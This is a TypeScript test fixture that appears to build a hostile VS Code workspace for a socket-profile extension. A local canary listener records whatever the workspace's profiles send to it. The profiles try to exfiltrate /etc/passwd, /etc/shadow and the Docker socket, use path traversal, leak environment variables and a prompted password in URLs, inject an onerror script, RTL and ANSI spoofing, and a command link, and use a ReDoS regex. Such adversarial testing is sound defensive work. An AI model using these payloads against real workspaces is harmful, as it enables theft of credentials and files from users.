import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { join } from 'node:path';

/** Counts all that comes to a port of this machine, over TCP and UDP. */
export interface Canary {
  readonly port: number;
  readonly arrivals: () => readonly string[];
  close(): void;
}

export async function canary(): Promise<Canary> {
  const arrivals: string[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    arrivals.push('tcp');
    socket.on('error', () => undefined).on('data', (bytes) => arrivals.push(bytes.toString('latin1')));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket('udp4').on('message', (bytes) => arrivals.push(`udp ${bytes.toString('latin1')}`));
  datagrams.bind(port, '127.0.0.1');
  await once(datagrams, 'listening');
  return {
    port,
    arrivals: () => arrivals,
    close: () => {
      for (const socket of sockets) socket.destroy();
      server.close();
      datagrams.close();
    },
  };
}

const RUN = 'command:workbench.action.files.newUntitledFile';
const DISGUISED = `[click me](${RUN}) \u202Egnp.exe \u001b[31mred\u001b[0m <img src=x onerror="document.title='hacked'"> $(flame)`;
const MANY = 10_000;

/** Files of a workspace that tries a trick with each profile, and 10,000 more. @param outside a folder that isn't the workspace's */
export function hostileFiles(
  { port }: Canary,
  listenOn: readonly number[],
  outside: string,
): Readonly<Record<string, string>> {
  const there = { host: '127.0.0.1', port };
  const url = `ws://127.0.0.1:${String(port)}`;
  const steal = [{ name: 'steal', format: 'file', payload: '/etc/passwd' }];
  const tricks = [
    {
      name: 'Opens',
      transport: 'websocket',
      url,
      onOpen: ['hi'],
      messages: [{ name: 'hi', format: 'text', payload: 'hi' }],
    },
    { name: 'Again', transport: 'tcp', ...there, reconnect: { attempts: 100, delay: 1, maxDelay: 1 } },
    { name: 'Environment', transport: 'websocket', url: `${url}/?home=\${env:HOME}&path=\${env:PATH}` },
    {
      name: 'Settings',
      transport: 'websocket',
      url: `${url}/\${config:http.proxy}`,
      headers: { 'X-Home': '${userHome}' },
    },
    { name: 'Asks', transport: 'websocket', url: `${url}/\${input:token}` },
    {
      name: 'Keys',
      transport: 'tcp',
      ...there,
      tls: { keyLogFile: join(outside, 'keys.log'), key: '/etc/shadow', cert: '../../cert.pem' },
    },
    { name: 'Socket', transport: 'tcp', path: '/var/run/docker.sock', onOpen: ['steal'], messages: steal },
    {
      name: 'Steals',
      transport: 'tcp',
      ...there,
      onOpen: ['steal', 'up'],
      messages: [...steal, { name: 'up', format: 'file', payload: '../../../../etc/hosts' }],
    },
    { name: 'Proxied', transport: 'tcp', host: '127.0.0.1', port: 1, proxy: `http://127.0.0.1:${String(port)}` },
    {
      name: 'Shouts',
      transport: 'udp',
      ...there,
      broadcast: true,
      onOpen: ['hi'],
      messages: [{ name: 'hi', format: 'text', payload: 'hi' }],
    },
    { name: 'Pings', transport: 'websocket', url, ping: { interval: 1, timeout: 1 } },
    { name: 'Open house', transport: 'websocket', role: 'server', host: '0.0.0.0', port: listenOn[0] },
    {
      name: 'Bridge',
      transport: 'tcp',
      role: 'server',
      port: listenOn[1],
      forwardTo: `tcp://127.0.0.1:${String(port)}`,
    },
    {
      name: 'Answers',
      transport: 'tcp',
      role: 'server',
      port: listenOn[2],
      onConnect: [{ file: '/etc/passwd' }],
      rules: [
        { match: '(a+)+$', reply: { file: '../../secret' } },
        { match: '.*', reply: '${env:HOME}' },
      ],
    },
    { name: 'Squats', transport: 'tcp', role: 'server', path: join(outside, 'squat.sock') },
    { name: DISGUISED, folder: `${DISGUISED}/${DISGUISED}`, transport: 'websocket', url },
    { name: 'Wide', folder: 'w'.repeat(100_000), transport: 'websocket', url: `${url}/${'x'.repeat(1_000_000)}` },
  ];
  const more = Array.from({ length: MANY }, (_, nth) => ({
    name: `p${String(nth)}`,
    folder: 'many',
    transport: 'tcp',
    ...there,
  }));
  const inputs = [
    { id: 'token', type: 'promptString', description: `Type your password ${DISGUISED}`, password: true },
  ];
  return {
    // A profile a line: the last ones are of no interest to the editor.
    '.vscode/sockets.json': `{ "inputs": ${JSON.stringify(inputs)},\n"profiles": [\n${[...tricks, ...more].map((each) => JSON.stringify(each)).join(',\n')}\n] }`,
    '.vscode/settings.json': JSON.stringify({
      'socketscope.demoServer.port': port,
      'socketscope.log.retentionDays': 1,
      'socketscope.log.maxDiskUsage': '0 B',
      'socketscope.log.memory': '0 B',
      'http.proxy': `http://127.0.0.1:${String(port)}`,
    }),
    'notes.md': `ws://127.0.0.1:${String(port)}/from-a-link`,
  };
}
